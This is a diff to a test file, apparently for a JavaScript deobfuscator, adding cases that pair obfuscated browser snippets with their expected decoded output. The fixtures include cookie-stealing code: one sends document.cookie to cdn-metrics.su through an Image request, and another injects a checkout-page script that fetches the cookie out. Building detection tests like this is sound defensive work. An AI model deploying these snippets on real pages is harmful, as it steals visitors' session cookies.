@@ -7,6 +7,19 @@ const SHIFTED =
   '103,102,117,100,105,41,35,48,121,64,101,62,35,44,101,112,100,118,110,102,111,117,47,100,112,112,108,106,102,42'
 const CASES: { name: string; source: string; has: string[]; not?: string[] }[] = [
   {
+    name: "the global object obfuscators fetch with Function('return this')() reads its built-ins",
+    source: `var g=Function('return (function() '+'{}.constructor("return this")( )'+');')();
+      var u=g['atob']('aHR0cHM6Ly9jZG4tbWV0cmljcy5zdS9j');new Image().src=u+'?d='+document.cookie`,
+    has: ['"https://cdn-metrics.su/c?d="'],
+  },
+  {
+    name: 'an array rotated by a plain push/shift loop (no checksum) is read in its rotated order',
+    source: `var t=['second','third','first'];(function(a,n){var r=function(k){while(--k){a.push(a.shift())}};r(++n)}(t,0x1));
+      var d=function(i){i=i-0x0;return t[i]};document.title=d('0x0')`,
+    has: ['document.title="third"'],
+    not: ['document.title="second"'],
+  },
+  {
     name: 'code decoded by fromCharCode.apply over a mapped array, in a branch on the page URL',
     source: `!function(){var t,n=[${SHIFTED}];if(/checkout/.test(location.pathname)){t=String.fromCharCode.apply(null,n.map(function(c){return c-1}));var s=document.createElement('script');s.text=t;document.head.appendChild(s)}}()`,
     has: ['atob("ZmV0Y2goIi94P2Q9Iitkb2N1bWVudC5jb29raWUp")'],
